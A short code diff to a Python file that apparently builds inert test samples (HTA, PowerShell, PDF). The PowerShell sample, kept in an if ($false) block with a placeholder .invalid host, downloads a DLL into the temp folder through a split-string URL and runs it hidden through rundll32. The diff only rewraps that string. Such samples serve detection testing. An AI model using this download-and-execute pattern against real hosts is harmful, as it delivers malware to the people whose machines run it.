@@ -96,7 +96,8 @@ def hta():
 
 def powershell():
     return (f"# {forms.COMMENT}\r\nif ($false) {{\r\n$w = New-Object Net.WebClient\r\n$p = \"$env:TEMP\\a.dll\"\r\n"
-            "$w.DownloadFile(('ht' + 'tp://example.invalid/inert/a.dll'), $p)\r\nStart-Process rundll32.exe -ArgumentList \"$p,#1\" -WindowStyle Hidden\r\n}\r\n").encode()
+            "$w.DownloadFile(('ht' + 'tp://example.invalid/inert/a.dll'), $p)\r\n"
+            "Start-Process rundll32.exe -ArgumentList \"$p,#1\" -WindowStyle Hidden\r\n}\r\n").encode()
 
 
 def pdf(*objects, catalog=""):
